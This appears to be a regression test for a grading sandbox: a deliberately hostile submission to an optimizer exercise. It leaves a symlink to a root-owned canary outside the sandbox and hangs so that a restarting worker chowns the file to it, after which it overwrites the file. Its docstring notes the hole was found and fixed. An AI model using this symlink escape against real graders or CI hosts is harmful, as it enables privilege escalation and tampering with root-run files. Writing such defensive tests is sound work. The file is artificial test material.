"""Attack: leave a symlink in the working directory pointing at a file outside the
sandbox (a root-owned canary, path substituted into __CANARY__), then hang so the
worker is killed and restarted in the same directory: a restart that chowns the
directory's entries as root would follow the link and hand the file to the student,
who then rewrites it (in real life: numpy/__init__.py or a CI script, run as root next).
Found in this project (fixed: fresh workdir per worker, no symlink following, private
tmpfs workdir). Expected: the wrong core's score, the canary unchanged and root's.
"""
import os

import numpy as np

_CANARY = "__CANARY__"
_LEAKED = False

try:
    if os.stat(_CANARY).st_uid == os.getuid():
        with open(_CANARY, "w") as fh:
            fh.write("taken over by the submission\n")
        _LEAKED = True
except OSError:
    pass
try:
    os.symlink(_CANARY, "link")
except OSError:
    pass


def _wrong(theta):
    return np.array(theta, dtype=np.float64)


def gd_step(theta, grad_fn, lr):
    while not _LEAKED:
        pass
    return theta - lr * grad_fn(theta)


def momentum_step(theta, velocity, grad_fn, lr, rho):
    while not _LEAKED:
        pass
    v = rho * velocity - lr * grad_fn(theta)
    return theta + v, v


def nag_step(theta, velocity, grad_fn, lr, rho):
    return _wrong(theta), _wrong(velocity)


def optimize(grad_fn, theta0, method, lr, rho=0.9, num_steps=100):
    if method not in ("gd", "momentum", "nag"):
        raise ValueError(method)
    return np.stack([_wrong(theta0)] * (num_steps + 1))
